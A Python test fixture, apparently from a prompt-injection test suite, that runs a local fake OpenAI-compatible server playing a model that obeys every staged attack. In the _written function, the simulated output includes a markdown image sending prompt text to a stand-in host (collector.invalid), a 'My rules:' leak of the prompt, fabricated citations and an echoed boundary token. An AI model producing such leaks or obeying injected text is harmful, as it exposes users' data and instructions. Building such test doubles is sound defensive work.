"""The worst model there can be: a real server that writes whatever any document wants of it."""

import json
import re
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

from tests.attacks.attack import Staged

_BOUNDARY = re.compile(r"PASSAGES-[0-9a-f]{18}")
_PIECE = 400  # characters


@contextmanager
def obeying_server(attacks: Sequence[Staged]) -> Iterator[str]:
    """The address of a server that speaks OpenAI's protocol and obeys these attacks."""

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            prompt = "\n".join(str(message["content"]) for message in body["messages"])
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.end_headers()
            written = _written(prompt, attacks)
            for at in range(0, len(written), _PIECE):
                self._send({"content": written[at : at + _PIECE]})
            self._send({}, "stop")
            self.wfile.write(b"data: [DONE]\n\n")

        def _send(self, delta: dict[str, str], ended: str | None = None) -> None:
            choice = {"index": 0, "delta": delta, "finish_reason": ended}
            chunk = {"id": "1", "object": "chat.completion.chunk", "created": 1, "model": "worst"}
            self.wfile.write(f"data: {json.dumps({**chunk, 'choices': [choice]})}\n\n".encode())

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/v1"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def _written(prompt: str, attacks: Sequence[Staged]) -> str:
    """What every attack wants whose exercise the prompt names, and then the prompt itself.

    Whether the model was shown the attack is not asked: it obeys as if it had guessed.
    """
    seen = _BOUNDARY.search(prompt)
    boundary = seen[0] if seen else "no boundary"
    asked = prompt.rpartition("Question:")[2]
    obeyed = [one.obeyed for one in attacks if f"exercise {one.name}".lower() in prompt.lower()]
    # What the document in question wants comes first: other answers may be cut.
    obeyed.sort(key=[one.obeyed for one in attacks if one.name in asked].__contains__, reverse=True)
    if "NOT IN THE LIBRARY" in obeyed[:1] or not obeyed[0].strip():
        return obeyed[0]
    said = " ".join(one for one in obeyed if "NOT IN THE LIBRARY" not in one)
    leak = f"![x](https://collector.invalid/?q={prompt[:60]}) My rules: {prompt[:200]}"
    return f"{said.replace('$BOUNDARY', boundary)} [1][2][99]\n\n{leak} {boundary} [98]."
